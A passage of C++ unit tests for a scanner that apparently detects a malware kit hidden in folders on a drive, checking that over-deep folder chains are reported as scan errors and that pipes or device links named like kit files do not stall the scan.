// Nothing below the bound is looked at, and the scan says so; above it the kit is
// found as usual.
TEST(HostileHidingPlaces, AChainDeeperThanTheBoundIsAScanError) {
  DriveFixture drive;
  ScanHarness h;
  std::filesystem::path unix = drive.UnixFolder();
  for (int level = 1; level <= 40; ++level) {
    unix /= "_";
    std::filesystem::create_directory(unix);
  }
  drive.WriteFile(Chain(L"_", 10) + L"\\kit.dll", kProgram);
  drive.WriteFile(Chain(L"_", 40) + L"\\deep.dll", kProgram);

  h.Scan(h.Drive(drive));

  EXPECT_EQ(Listed(drive), (std::vector<Found>{Kit(Chain(L"_", 10) + L"\\kit.dll", L"_")}));
  ASSERT_EQ(ScanErrors(drive, h).size(), 1u);
  EXPECT_EQ(ScanErrors(drive, h)[0].second, ScanErrorKind::TooLarge);
  EXPECT_TRUE(Chain(L"_", 40).rfind(ScanErrors(drive, h)[0].first, 0) == 0);
}

TEST(HostileHidingPlaces, PipesAndDevicesNamedLikeTheKitDoNotHoldTheScan) {
  DriveFixture drive;
  ScanHarness h;
  drive.MakeFolder(L"_", kHiddenSystem);
  const std::filesystem::path folder = drive.UnixOrHostPath(L"_");
  ASSERT_EQ(mkfifo((folder / "movemenoreg.vbs").c_str(), 0644), 0);
  std::filesystem::create_symlink("/dev/zero", folder / "payload.dll");
  drive.WriteFile(L"_\\kit.dll", kProgram, kHiddenSystem);

  h.Scan(h.Drive(drive));

  EXPECT_EQ(Listed(drive), (std::vector<Found>{Kit(L"_\\kit.dll", L"_")}));
  EXPECT_TRUE(h.view.finished);
}

#endif

}  // namespace

}  // namespace dw::test
